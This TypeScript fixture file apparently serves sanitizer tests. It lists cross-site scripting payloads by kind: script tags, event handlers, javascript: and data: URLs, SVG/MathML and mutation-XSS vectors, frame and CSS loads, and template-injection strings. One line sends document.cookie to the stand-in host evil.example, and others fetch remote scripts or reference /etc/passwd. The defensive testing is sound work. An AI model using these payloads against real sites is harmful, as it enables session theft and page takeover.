/**
 * What public cheat sheets (OWASP's XSS Filter Evasion, PortSwigger's) try, by kind. Whatever runs calls `__xss()`; whatever
 * leaves the page goes to `https://evil.example`. Control characters are written as escapes, to be seen here.
 */

const EVIL = 'https://evil.example';

const scripts = [
  '<script>__xss()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/x>__xss()</script>',
  '<<SCRIPT>__xss();//\\<</SCRIPT>',
  '<scr<script>ipt>__xss()</scr</script>ipt>',
  '"><script>__xss()</script>',
  '\'";--></style></title></textarea></noscript><script>__xss()</script>',
  '<script type=module>import "https://evil.example/m.js"</script>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
];

const handlers = [
  '<img src=x onerror=__xss()>',
  '<img src=x onerror="&#95;&#95;xss&#40;&#41;">',
  '<IMG """><img src=x onerror=__xss()>">',
  '<img/src="x"/onerror=__xss()>',
  '<img src=`x` onerror=`__xss()`>',
  '<img src=x:x onerror\u000c=__xss()>',
  '<svg onload=__xss()>',
  '<svg/onload=__xss()>',
  '<details open ontoggle=__xss()><summary>x</summary></details>',
  '<body onload=__xss()>',
  '<input autofocus onfocus=__xss()>',
  '<select autofocus onfocus=__xss()></select>',
  '<video src=x onerror=__xss()></video>',
  '<audio src=x onerror=__xss()></audio>',
  '<video><source src=x onerror=__xss()></video>',
  '<marquee onstart=__xss()>x</marquee>',
  '<div onpointerover=__xss() onmouseenter=__xss() style="position:fixed;inset:0">x</div>',
  '<p tabindex=1 autofocus contenteditable onfocus=__xss()>x</p>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=__xss()>x</b>',
  '<div popover id=pop onbeforetoggle=__xss()>x</div><button popovertarget=pop autofocus>x</button>',
];

/** Also in `href`, see `markup`. */
export const urls: readonly string[] = [
  'javascript:__xss()',
  'JaVaScRiPt:__xss()',
  ' \u0001javascript:__xss()',
  'java\tscript:__xss()',
  'java\nscript:__xss()',
  'javascript\u0000:__xss()',
  'javascript://%0a__xss()',
  'javascript://evil.example/%0a__xss()//',
  'data:text/html,<script>top.__xss()</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AuX194c3MoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__xss()"/>',
  'vbscript:__xss()',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:https://evil.example/temporary/x',
  'view-source:https://evil.example/',
  'intent://evil.example/#Intent;scheme=https;end',
  'https://localhost@evil.example/',
  'https:evil.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
];

const links = [
  ...urls.map((url) => `<a href="${url.replaceAll('"', '&quot;')}">x</a>`),
  '<a href="&#106;&#97;vascript&colon;__xss&lpar;&rpar;">x</a>',
  '<a href="jav&#x09;ascript:__xss()">x</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target=_self>x</a>',
  '<img src="javascript:__xss()">',
  `<img src="${EVIL}/pixel.gif" alt="pixel">`,
  `<a href="${EVIL}/"><img src="//evil.example/in-link.gif" alt="in link"></a>`,
  `<img srcset="${EVIL}/set.gif 1x" src="">`,
  `<picture><source srcset="${EVIL}/source.gif"><img src=x></picture>`,
  `<input type=image src="${EVIL}/input.gif" formaction="javascript:__xss()">`,
  `<table background="${EVIL}/table.gif"><tr><td background="${EVIL}/cell.gif">x</td></tr></table>`,
  `<video poster="${EVIL}/poster.gif" src="${EVIL}/v.mp4" autoplay></video>`,
];

const foreign = [
  '<svg><script>__xss()</script></svg>',
  '<svg><script href="https://evil.example/x.js" /></svg>',
  '<svg><a xlink:href="javascript:__xss()"><text x=20 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:__xss()" /><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=__xss() attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss() /></svg>#x"></svg>',
  '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>',
  `<svg><image href="${EVIL}/svg.gif" /><feImage href="${EVIL}/fe.gif" /></svg>`,
  '<svg><style><img src=x onerror=__xss()></style></svg>',
  '<math href="javascript:__xss()">x</math>',
  '<math><maction actiontype="statusline#x" xlink:href="javascript:__xss()">x</maction></math>',
];

/** Harmless as it is first read, and not as it is read again. */
const mutating = [
  '<noscript><p title="</noscript><img src=x onerror=__xss()>"></noscript>',
  '<style><style/><img src=x onerror=__xss()></style>',
  '<title><a title="</title><img src=x onerror=__xss()>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=__xss()>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=__xss()>"></xmp>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
  '<svg></p><style><a id="</style><img src=x onerror=__xss()>">',
  '<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=__xss()></style>',
  '<template><img src=x onerror=__xss()></template><template shadowrootmode=open><script>__xss()</script></template>',
  '<!--><img src=x onerror=__xss()>-->',
  '<!-- --!><img src=x onerror=__xss()> -->',
  '<![CDATA[><img src=x onerror=__xss()>]]>',
  '<?xml-stylesheet href="javascript:__xss()"?><img src=x onerror=__xss()>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=__xss()>">',
  '<table><td><svg><desc><table><td></desc></svg><img src=x onerror=__xss()></td></table>',
  `${'<div>'.repeat(520)}<svg><style><a title="</style><img src=x onerror=__xss()>">`,
];

const frames = [
  '<iframe srcdoc="<script>top.__xss()</script>"></iframe>',
  '<iframe src="javascript:top.__xss()"></iframe>',
  `<iframe src="${EVIL}/frame"></iframe>`,
  '<object data="javascript:__xss()"></object>',
  `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"></object>`,
  `<embed src="${EVIL}/e.svg">`,
  `<base href="${EVIL}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:__xss()">',
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  `<form action="${EVIL}/form"><button formaction="javascript:__xss()" autofocus>x</button></form>`,
  '<form id=f></form><button form=f formaction="javascript:__xss()">x</button>',
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=prefetch href="${EVIL}/p"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import "${EVIL}/import.css"; *{background:url(${EVIL}/bg.gif)}</style>`,
  `<p style="background:url(${EVIL}/style.gif);list-style:url('${EVIL}/list.gif')">x</p>`,
  `<p style="behavior:url(x.htc);width:expression(__xss());position:fixed;inset:0">x</p>`,
  '<a id=__proto__ name=document href=x>x</a><img name=getElementById src=x><form id=oms><input name=shell></form>',
  '<form id=f2 name=body><input name=attributes><input name=parentNode></form><img src=x onerror=__xss()>',
];

/** HTML to be put where HTML is taken, and as text everywhere else. */
export const markup: readonly string[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...foreign,
  ...mutating,
  ...frames,
];

/** For what writes texts: templates, translations, terminals, and the order of letters. */
export const texts: readonly string[] = [
  '{{constructor.constructor("__xss()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of the attacker's
  '${__xss()} #{__xss()} <%= __xss() %> [[__xss()]]',
  '$t(action.close) {{title}} $t(reports.downloadNamed, {"title": "<img src=x onerror=__xss()>"})',
  '\u001b]8;;https://evil.example/\u0007x\u001b[2J',
  '\u202egpj.exe\u202c \u2066x\u2069 \ufeff\u0000\ud800',
  '__proto__',
];
